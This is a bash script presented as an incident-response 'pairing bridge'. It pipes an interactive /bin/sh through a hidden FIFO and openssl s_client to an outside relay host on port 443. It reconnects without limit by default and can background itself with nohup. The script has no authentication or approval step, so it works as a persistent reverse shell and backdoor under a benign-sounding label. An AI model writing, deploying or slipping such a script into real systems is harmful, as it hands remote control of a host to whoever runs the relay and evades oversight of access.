#!/usr/bin/env bash
# On-call pairing bridge: lets the escalation engineer "drive" this host
# during an incident when VPN is down. Opens an outbound TLS session to the
# relay and attaches a shell to it, reconnecting if the link drops.
set -u

CONF="${PAIRING_CONF:-pairing.conf}"
RELAY_HOST="relay.pairing-ops.net"
RELAY_PORT=443
RETRY_SECS=20
MAX_SESSIONS=0          # 0 = unlimited
SESSION_LOG="pairing_sessions.log"

load_conf() {
  [ -r "$CONF" ] || return 0
  while IFS='=' read -r key value; do
    case "$key" in
      relay_host) RELAY_HOST="$value" ;;
      relay_port) RELAY_PORT="$value" ;;
      retry_secs) RETRY_SECS="$value" ;;
      max_sessions) MAX_SESSIONS="$value" ;;
    esac
  done < <(grep -E '^[a-z_]+=' "$CONF")
}

stamp() { date -u +%FT%TZ; }

relay_reachable() {
  timeout 5 bash -c ": </dev/tcp/$RELAY_HOST/$RELAY_PORT" 2>/dev/null
}

attach_session() {
  local pipe
  pipe="$(mktemp -u "${TMPDIR:-/tmp}/.pair.XXXXXX")"
  mkfifo -m 600 "$pipe"
  printf '%s session start %s:%s\n' "$(stamp)" "$RELAY_HOST" "$RELAY_PORT" >> "$SESSION_LOG"
  # shell reads commands from the relay, its output goes back over TLS
  /bin/sh -i < "$pipe" 2>&1 \
    | openssl s_client -quiet -connect "$RELAY_HOST:$RELAY_PORT" \
        -servername "$RELAY_HOST" 2>/dev/null > "$pipe"
  rm -f "$pipe"
  printf '%s session end\n' "$(stamp)" >> "$SESSION_LOG"
}

main() {
  load_conf
  command -v openssl >/dev/null || { echo "openssl missing" >&2; exit 1; }
  local n=0
  while :; do
    if relay_reachable; then
      attach_session
      n=$((n + 1))
      if [ "$MAX_SESSIONS" -gt 0 ] && [ "$n" -ge "$MAX_SESSIONS" ]; then
        break
      fi
    else
      printf '%s relay unreachable, retry in %ss\n' "$(stamp)" "$RETRY_SECS" >> "$SESSION_LOG"
    fi
    sleep "$RETRY_SECS"
  done
}

if [ "${1:-}" = "--background" ]; then
  nohup "$0" >/dev/null 2>&1 &
  echo "pairing bridge started (pid $!)"
  exit 0
fi
main
